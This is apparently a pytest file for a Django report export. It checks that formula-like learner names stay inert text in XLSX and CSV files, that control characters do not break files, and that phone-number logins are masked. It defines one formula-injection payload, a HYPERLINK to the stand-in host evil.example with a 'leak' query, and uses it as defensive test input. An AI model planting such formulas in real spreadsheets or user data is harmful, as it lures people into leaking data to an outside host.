"""Report exports carry data, never formulas, never characters that break the file, never phones."""

import io

import pytest
import time_machine
from openpyxl import load_workbook

from tests.reports.conftest import NOW

HOSTILE = '=HYPERLINK("http://evil.example/?leak","点我")'


def download(client, user, what, file_format, **params):
    client.force_login(user)
    with time_machine.travel(NOW, tick=False):
        response = client.get(f"/reports/export/{what}.{file_format}", params)
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def xlsx_cells(content):
    sheet = load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


@pytest.mark.django_db
def test_a_learner_named_like_a_formula_is_text_in_the_people_xlsx(
    client, small_district, coordinator_of
):
    small_district["people"]["p1"].name = HOSTILE
    small_district["people"]["p1"].save()
    unit = coordinator_of(small_district["u1"])
    content = download(
        client,
        unit,
        "people",
        "xlsx",
        requirement=small_district["requirement"].pk,
        organisation=small_district["u1"].pk,
    )
    cells = [cell for cell in xlsx_cells(content) if cell.value == HOSTILE]
    assert cells, "the name is in the file, as typed"
    assert all(cell.data_type == "s" for cell in cells)
    assert b"<f>" not in _sheet_xml(content)


def _sheet_xml(content):
    import zipfile

    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return b"".join(
            archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")
        )


@pytest.mark.django_db
def test_a_learner_named_like_a_formula_is_quoted_in_the_people_csv(
    client, small_district, coordinator_of
):
    small_district["people"]["p1"].name = HOSTILE
    small_district["people"]["p1"].save()
    unit = coordinator_of(small_district["u1"])
    text = download(
        client,
        unit,
        "people",
        "csv",
        requirement=small_district["requirement"].pk,
        organisation=small_district["u1"].pk,
    ).decode("utf-8")
    assert "'=HYPERLINK(" in text
    assert ',"=HYPERLINK' not in text and "\n=HYPERLINK" not in text


@pytest.mark.django_db
@pytest.mark.parametrize("level", ["u1", "town_a"])
def test_a_name_with_a_control_character_does_not_break_the_xlsx(
    client, small_district, coordinator_of, level
):
    small_district["people"]["p2"].name = "王五\x07"
    small_district["people"]["p2"].save()
    coordinator = coordinator_of(small_district[level])
    content = download(
        client,
        coordinator,
        "people",
        "xlsx",
        requirement=small_district["requirement"].pk,
        organisation=small_district[level].pk,
    )
    assert "王五" in [cell.value for cell in xlsx_cells(content)]


@pytest.mark.django_db
@pytest.mark.parametrize("file_format", ["xlsx", "csv"])
def test_a_district_export_does_not_show_a_phone_used_as_login_name(
    client, small_district, coordinator_of, file_format
):
    person = small_district["people"]["p1"]
    person.username = person.phone = "13812340002"
    person.name = ""  # so the login name stands in for the name, on screen and in the file
    person.save()
    district = coordinator_of(small_district["district"])
    params = {
        "requirement": small_district["requirement"].pk,
        "organisation": small_district["u1"].pk,
    }
    content = download(client, district, "people", file_format, **params)
    if file_format == "xlsx":
        text = " ".join(str(cell.value) for cell in xlsx_cells(content))
    else:
        text = content.decode("utf-8")
    assert "138****0002" in text
    assert "13812340002" not in text
    client.force_login(district)
    with time_machine.travel(NOW, tick=False):
        screen = client.get("/reports/people/", params).content.decode()
    assert "13812340002" not in screen
